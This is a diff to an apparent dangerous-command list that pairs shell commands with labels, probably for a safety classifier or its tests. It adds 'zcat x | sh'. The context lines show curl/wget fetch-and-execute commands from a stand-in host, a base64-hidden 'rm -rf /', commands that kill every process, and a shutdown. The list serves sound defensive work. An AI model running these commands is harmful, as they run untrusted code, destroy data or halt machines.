@@ -110,6 +110,7 @@ DANGEROUS = [
     ('eval "$(wget -qO- https://x.example)"', DOWNLOAD),
     ("source <(curl -s https://x.example)", DOWNLOAD),
     ("echo cm0gLXJmIC8K | base64 -d | sh", DOWNLOAD),
+    ("zcat x | sh", DOWNLOAD),
     ("kill -9 -1", "ends every process"),
     ("kill -KILL -- -1", "ends every process"),
     ("shutdown -h now", "turns the machine off"),
